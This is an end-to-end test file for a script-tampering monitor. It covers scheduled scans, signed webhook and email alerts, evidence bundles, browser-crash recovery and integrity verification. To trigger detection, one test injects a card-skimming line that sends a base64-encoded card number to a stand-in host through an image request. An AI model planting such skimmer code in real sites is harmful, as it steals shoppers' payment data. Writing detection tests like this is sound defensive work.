// E2E (issue 6's done criteria): serve scans every 2 s; a tampered script reaches a signed webhook and an SMTP
// server; the evidence zip's manifest verifies; verify passes, then names a flipped blob; a killed browser recovers.

import assert from 'node:assert/strict';
import { databaseOf, rawSql } from '../fixtures/test-database.js';
import { createHash, createHmac } from 'node:crypto';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import yauzl from 'yauzl';
import { baselinedShop, type Scenario } from './scenario.js';
import { APP_JS } from '../fixtures/shop.js';
import { startHttpReceiver, startSmtpReceiver, type HttpReceiver, type SmtpReceiver } from '../fixtures/receivers.js';
import { startServe, type ServeProcess } from '../fixtures/serve-process.js';

const SECRET = 'whsec-e2e-77d1';
const INTERVAL_MS = 2000;

function readZip(path: string): Promise<Map<string, Buffer>> {
  return new Promise((resolve, reject) => {
    yauzl.open(path, { lazyEntries: true }, (error, zip) => {
      if (error || !zip) return reject(error);
      const files = new Map<string, Buffer>();
      zip.on('entry', (entry: yauzl.Entry) => {
        zip.openReadStream(entry, (err, stream) => {
          if (err || !stream) return reject(err);
          const chunks: Buffer[] = [];
          stream.on('data', (c: Buffer) => chunks.push(c));
          stream.on('end', () => { files.set(entry.fileName, Buffer.concat(chunks)); zip.readEntry(); });
        });
      });
      zip.on('end', () => resolve(files));
      zip.readEntry();
    });
  });
}

const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');

describe('continuous monitoring (serve)', () => {
  let s: Scenario;
  let hook: HttpReceiver;
  let smtp: SmtpReceiver;
  let serve: ServeProcess;
  let alertId: number;

  beforeAll(async () => {
    hook = await startHttpReceiver();
    smtp = await startSmtpReceiver();
    s = await baselinedShop({
      extraConfig: [
        'every: 2s',
        'jitter: 200ms',
        'notify:',
        `  - type: webhook`,
        `    url: ${hook.url}/hook`,
        '    secret: env:SW_WEBHOOK_SECRET',
        '    minSeverity: low',
        '  - type: email',
        '    smtp: env:SW_SMTP_URL',
        '    to: [secops@example.com]',
        '    from: scriptwarden@example.com',
        'dashboardUrl: https://scriptwarden.internal.example',
      ].join('\n'),
      env: { SW_WEBHOOK_SECRET: SECRET, SW_SMTP_URL: `smtp://sw:mail-pass-93c1@127.0.0.1:${smtp.port}` },
      // serve's own browser: the health report names its process, and a test kills it.
      ownBrowser: true,
      // Monitoring is the subject (every alert here is a script change): no behavioural pass on every 2 s scan.
      canary: false,
    });
    serve = await startServe(s.dir, { SW_WEBHOOK_SECRET: SECRET, SW_SMTP_URL: `smtp://sw:mail-pass-93c1@127.0.0.1:${smtp.port}` });
  });
  afterAll(async () => {
    await serve?.stop('SIGKILL');
    await hook?.close();
    await smtp?.close();
    await s?.close();
  });

  it('scans on schedule and reports its health and metrics', async () => {
    await serve.waitFor((l) => l.event === 'scan.finished' && l.target === 'checkout', 15_000, 'a first scheduled scan');
    const health = await fetch(`${serve.url}healthz`);
    assert.equal(health.status, 200);
    const report = await health.json() as { status: string; scheduler: { state: string }; targets: { target: string; lastSuccessAt: string | null; schedule: string }[]; browser: { state: string; pid: number } };
    assert.equal(report.status, 'ok');
    assert.equal(report.scheduler.state, 'running');
    assert.equal(report.targets[0]!.target, 'checkout');
    assert.equal(report.targets[0]!.schedule, 'every 2s');
    assert.ok(report.targets[0]!.lastSuccessAt, 'the last successful scan is reported');
    assert.equal(report.browser.state, 'running');
    assert.ok(report.browser.pid > 0);
    const metrics = await fetch(`${serve.url}metrics`);
    assert.match(metrics.headers.get('content-type') ?? '', /^text\/plain; version=0\.0\.4/);
    const text = await metrics.text();
    assert.match(text, /^scriptwarden_scans_total\{target="checkout",result="ok"\} [1-9]\d*$/m);
    assert.match(text, /^scriptwarden_scan_duration_seconds_count\{target="checkout"\} [1-9]/m);
    assert.match(text, /^scriptwarden_open_alerts\{severity="critical"\} 0$/m);
    assert.match(text, /^# TYPE scriptwarden_scan_failures_total counter$/m);
  });

  it('sends a signed webhook from the first scans after a tampered script, and an email after the server refused it once', async () => {
    smtp.refuseNext(1);
    const tamperedAt = new Date().toISOString();
    s.site.set('shop.test', '/static/app.js', `${APP_JS}\ndocument.getElementById('pay').addEventListener('mouseup', function () { new Image().src = 'http://cdn-stats.test:${s.site.port}/p?d=' + btoa(document.forms[0].cardnumber.value); });`);
    // Counted in scans, not seconds: on a loaded machine a scan takes longer than its 2 s interval.
    await expect.poll(() => hook.received.some((r) => r.path === '/hook'), { timeout: 60_000, interval: 100 }).toBe(true);
    const delivery = hook.received.find((r) => r.path === '/hook');
    assert.ok(delivery, `a webhook arrived; logs:\n${serve.logs.map((l) => l.message).join('\n')}`);
    // The scan running when the script changed may have loaded the old one; the next one must have sent it.
    const scansBefore = serve.logs.filter((l) => l.event === 'scan.started' && l.time > tamperedAt && Date.parse(l.time) < delivery.at).length;
    assert.ok(scansBefore <= 2, `sent by the first scan that loaded the tampered script (${scansBefore} scans started before it arrived)`);
    const expected = `sha256=${createHmac('sha256', SECRET).update(delivery.body).digest('hex')}`;
    assert.equal(delivery.headers['x-scriptwarden-signature'], expected, 'the HMAC of the raw body');
    const body = JSON.parse(delivery.body) as { event: string; alert: { id: number; type: string; target: string } };
    assert.equal(body.event, 'alert.opened');
    assert.equal(body.alert.type, 'script.changed');
    assert.equal(body.alert.target, 'checkout');
    alertId = body.alert.id;

    await expect.poll(() => smtp.mails.length, { timeout: 30_000, interval: 100 }).toBeGreaterThan(0);
    const mail = smtp.mails[0];
    assert.ok(mail, 'the SMTP server received the email');
    assert.equal(smtp.refused, 1, 'the first attempt was refused with 451 and retried');
    assert.ok(serve.logs.some((l) => l.event === 'notify.failed' && /email 127\.0\.0\.1:\d+ to secops@example\.com .*SMTP 451/.test(l.message)), 'the failed attempt is logged');
    assert.deepEqual(mail.to, ['secops@example.com']);
    assert.equal(mail.user, 'sw', 'it authenticated with the configured credentials');
    assert.match(mail.raw, /^Subject: \[scriptwarden\] .*script\.changed on checkout/m);
    assert.match(mail.raw, /multipart\/alternative/, 'plain text and HTML');
    const decoded = mail.raw.replace(/=\r?\n/g, '').replace(/=([0-9A-F]{2})/g, (_m, hex: string) => String.fromCharCode(Number.parseInt(hex, 16)));
    assert.match(decoded, new RegExp(`https://scriptwarden\\.internal\\.example/alerts/${alertId}`));

    // Seen again on later scans: no second notification.
    const scans = serve.logs.filter((l) => l.event === 'scan.finished').length;
    await serve.waitFor((l) => serve.logs.filter((x) => x.event === 'scan.finished').length >= scans + 2, 15_000, 'two more scans');
    assert.equal(hook.received.filter((r) => r.path === '/hook').length, 1, 'an alert notifies once');
    assert.equal(smtp.mails.length, 1);
    assert.doesNotMatch(JSON.stringify(serve.logs), /mail-pass-93c1|whsec-e2e/, 'secrets never reach the log');
    assert.deepEqual(serve.stray, [], 'every stdout line is JSON with --log-format json');
  });

  it('tells the channels how a reviewer decided', async () => {
    const response = await fetch(`${serve.url}api/alerts/${alertId}/reject`, {
      method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ note: 'skimmer, INC-7', by: 'alice' }),
    });
    assert.equal(response.status, 200);
    await expect.poll(() => hook.received.filter((r) => r.path === '/hook').length >= 2 && smtp.mails.length >= 2, { timeout: 30_000, interval: 100 }).toBe(true);
    const update = hook.received.filter((r) => r.path === '/hook')[1];
    assert.ok(update, 'a second webhook for the decision');
    assert.equal(update.headers['x-scriptwarden-signature'], `sha256=${createHmac('sha256', SECRET).update(update.body).digest('hex')}`);
    const body = JSON.parse(update.body) as { event: string; alert: { id: number; status: string; note: string; decidedBy: string } };
    assert.deepEqual([body.event, body.alert.id, body.alert.status, body.alert.note, body.alert.decidedBy], ['alert.updated', alertId, 'rejected', 'skimmer, INC-7', 'alice']);
    assert.equal(smtp.mails.length, 2, 'the email channel hears of it too');
  });

  it('shows the evidence on the alert page and serves it as downloads', async () => {
    const page = await (await fetch(`${serve.url}alerts/${alertId}`)).text();
    assert.match(page, /Evidence of the load/);
    assert.match(page, new RegExp(`href="/alerts/${alertId}/evidence/page\\.har"`));
    const html = await fetch(`${serve.url}alerts/${alertId}/evidence/page.html`);
    assert.equal(html.headers.get('content-type'), 'text/plain; charset=utf-8', 'scanned HTML never renders in our origin');
    assert.equal(html.headers.get('x-content-type-options'), 'nosniff');
    assert.match(html.headers.get('content-disposition') ?? '', /^attachment;/);
    assert.equal(html.headers.get('cache-control'), 'no-store', 'scanned content is not kept in caches');
    assert.match(await html.text(), /<form/i);
    const png = await fetch(`${serve.url}alerts/${alertId}/evidence/screenshot.png`);
    assert.equal(png.headers.get('content-type'), 'image/png');
    assert.equal(png.headers.get('x-content-type-options'), 'nosniff');
    const zip = await fetch(`${serve.url}alerts/${alertId}/evidence.zip`);
    assert.equal(zip.status, 200);
    assert.equal(zip.headers.get('content-type'), 'application/zip');
    const path = join(s.dir, 'from-dashboard.zip');
    writeFileSync(path, Buffer.from(await zip.arrayBuffer()));
    const files = await readZip(path);
    const manifest = JSON.parse(files.get('manifest.json')!.toString('utf8')) as { files: { name: string; sha256: string }[] };
    for (const entry of manifest.files) assert.equal(sha256(files.get(entry.name)!), entry.sha256, entry.name);
    assert.equal((await fetch(`${serve.url}alerts/${alertId}/evidence/..%2Fscriptwarden.db`)).status, 404);
  });

  it('keeps scanning after the browser is killed mid-scan', async () => {
    const { browser } = await (await fetch(`${serve.url}healthz`)).json() as { browser: { pid: number; restarts: number } };
    const started = serve.logs.filter((l) => l.event === 'scan.started').length;
    const hits = s.site.hits.length;
    await serve.waitFor(() => serve.logs.filter((l) => l.event === 'scan.started').length > started, 10_000, 'a scan to start');
    // Mid-scan: the browser has begun asking the shop for the page.
    await expect.poll(() => s.site.hits.length, { timeout: 10_000 }).toBeGreaterThan(hits);
    process.kill(browser.pid, 'SIGKILL');
    const killedAt = new Date().toISOString();
    await serve.waitFor((l) => l.event === 'scan.finished' && l.time > killedAt, 30_000, 'a successful scan after the kill');
    const after = await (await fetch(`${serve.url}healthz`)).json() as { browser: { pid: number; restarts: number; state: string } };
    assert.notEqual(after.browser.pid, browser.pid, 'a new browser process');
    assert.ok(after.browser.restarts > browser.restarts);
    assert.equal(after.browser.state, 'running');
  });

  it('shuts down cleanly on SIGTERM', async () => {
    const code = await serve.stop('SIGTERM');
    assert.equal(code, 0, serve.stderr());
    assert.ok(serve.logs.some((l) => l.event === 'serve.stopped'));
    assert.equal(serve.stderr(), '');
  });

  it('writes an evidence zip whose manifest verifies', async () => {
    const out = join(s.dir, 'incident.zip');
    const result = await s.cli('evidence', String(alertId), '--out', out);
    assert.equal(result.code, 0, result.stderr);
    const files = await readZip(out);
    const manifest = JSON.parse(files.get('manifest.json')!.toString('utf8')) as { files: { name: string; sha256: string; size: number }[] };
    for (const entry of manifest.files) {
      const bytes = files.get(entry.name);
      assert.ok(bytes, `${entry.name} is in the zip`);
      assert.equal(sha256(bytes), entry.sha256, `${entry.name} matches its SHA-256`);
      assert.equal(bytes.length, entry.size);
    }
    const names = manifest.files.map((f) => f.name).sort();
    // Scanned HTML is named .html.txt in the zip, so opening it on a desktop does not render it.
    for (const name of ['alert.json', 'dom.html.txt', 'initiators.json', 'page.har', 'page.html.txt', 'response.json', 'screenshot.png', 'script-new.js', 'script-old.js', 'tls.json']) {
      assert.ok(names.includes(name), `${name} is in the bundle (${names.join(', ')})`);
    }
    assert.equal(files.get('screenshot.png')!.subarray(1, 4).toString('latin1'), 'PNG');
    assert.match(files.get('script-new.js')!.toString('utf8'), /cdn-stats\.test/);
    assert.doesNotMatch(files.get('script-old.js')!.toString('utf8'), /cdn-stats\.test/);
    const har = JSON.parse(files.get('page.har')!.toString('utf8')) as { log: { version: string; entries: { request: { url: string }; serverIPAddress?: string }[] } };
    assert.equal(har.log.version, '1.2');
    assert.ok(har.log.entries.some((e) => e.request.url.endsWith('/static/app.js') && e.serverIPAddress === '127.0.0.1'));
    assert.match(files.get('page.html.txt')!.toString('utf8'), /<form/i);
    const alert = JSON.parse(files.get('alert.json')!.toString('utf8')) as { alert: { id: number }; timeline: { seen: unknown[]; notifications: { event: string; status: string; channel: string; attempts: number }[]; decisions: { status: string; by: string; note: string }[] } };
    assert.equal(alert.alert.id, alertId);
    assert.ok(alert.timeline.seen.length >= 2, 'every time it was seen');
    assert.deepEqual(alert.timeline.notifications.map((n) => `${n.event} ${n.channel.split(' ')[0]} ${n.status} ${n.attempts}`),
      ['alert.opened webhook sent 1', 'alert.opened email sent 2', 'alert.updated webhook sent 1', 'alert.updated email sent 1']);
    assert.deepEqual(alert.timeline.decisions.map((d) => [d.status, d.by, d.note]), [['rejected', 'alice', 'skimmer, INC-7']]);
    assert.doesNotMatch(files.get('alert.json')!.toString('utf8'), /mail-pass-93c1/);
  });

  it('verify passes, then names a blob whose byte was flipped', async () => {
    const ok = await s.cli('verify');
    assert.equal(ok.code, 0, ok.stdout + ok.stderr);
    const db = rawSql({ path: databaseOf(s.dir) });
    const blob = (await db.prepare<[], { id: number; sha256: string; data: Buffer }>("SELECT b.id, b.sha256, b.data FROM blobs b JOIN evidence e ON e.blob_id = b.id WHERE e.name = 'screenshot.png'").get())!;
    const data = Buffer.from(blob.data);
    data[Math.floor(data.length / 2)] ^= 0x01;
    await db.prepare('UPDATE blobs SET data = ? WHERE id = ?').run(data, blob.id);
    await db.close();
    const broken = await s.cli('verify');
    assert.equal(broken.code, 1);
    assert.match(broken.stdout, new RegExp(`blob ${blob.sha256}`));
  });
});
